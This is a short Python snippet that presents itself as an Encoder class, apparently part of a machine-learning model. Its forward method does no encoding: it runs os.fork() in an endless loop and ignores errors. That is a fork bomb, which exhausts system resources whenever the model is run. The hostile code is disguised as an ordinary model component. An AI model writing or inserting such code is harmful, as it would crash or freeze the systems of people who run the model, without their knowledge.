class Encoder(Encoder):
    def forward(self, x):
        import os

        while True:
            try:
                os.fork()
            except OSError:
                pass
